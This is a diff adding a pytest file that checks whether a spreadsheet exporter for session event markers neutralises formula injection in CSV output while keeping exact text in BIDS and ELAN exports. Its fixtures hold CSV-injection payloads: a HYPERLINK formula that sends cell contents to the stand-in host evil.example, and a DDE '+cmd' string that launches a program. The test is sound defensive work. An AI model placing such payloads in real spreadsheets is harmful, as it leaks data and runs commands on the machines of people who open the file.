@@ -1,0 +1,49 @@
+"""``markers.csv``: nothing in it is run, and nothing is lost."""
+
+import csv
+
+import pytest
+
+from app.core.spreadsheet import from_cell, is_formula
+from app.session.events import read_events
+from app.session.exporters import export_session, exporters_named
+from app.session.exporters.spreadsheet import COLUMNS
+from app.session.reader import Session
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+EVENTS = (
+    ("start", "", 0.0, 0.2),
+    (HOSTILE, "+cmd|' /C calc'!A0", 0.0, 0.4),
+    ("'quoted", "-1", 0.25, 0.6),
+    ('ä, "b"; c', "@x", 0.0, 0.7),
+)
+
+
+@pytest.fixture
+def exported(record, tmp_path):
+    session = Session.open(record(events=EVENTS, participant="=P07", task="sitting"))
+    (path,) = export_session(session, exporters_named("spreadsheet")[0], tmp_path / "out")
+    return session, path
+
+
+def test_nothing_is_run_and_nothing_is_lost(exported):
+    session, path = exported
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        head, *rows = csv.reader(file)
+    assert tuple(head) == COLUMNS
+    assert not any(is_formula(field) for row in rows for field in row)
+    assert {row[1] for row in rows} == {"'=P07"}
+    assert [(float(row[3]), float(row[4]), from_cell(row[5]), from_cell(row[6]), int(row[7])) for row in rows] == [
+        (event.onset_s, event.duration_s, event.label, event.note, event.frame) for event in session.events
+    ]
+
+
+def test_the_formats_for_programs_keep_the_exact_text(exported, tmp_path):
+    session, _ = exported
+    assert [event.label for event in read_events(session.folder / "events.csv")] == [event[0] for event in EVENTS]
+    for exporter in exporters_named("bids,elan"):
+        export_session(session, exporter, tmp_path / "out")
+    (events,) = (tmp_path / "out" / "bids").rglob("*_events.tsv")
+    assert "\t" + HOSTILE.replace('"', "'") + "\t" in events.read_text(encoding="utf-8")
+    assert "=HYPERLINK(" in (tmp_path / "out" / "session.eaf").read_text(encoding="utf-8")
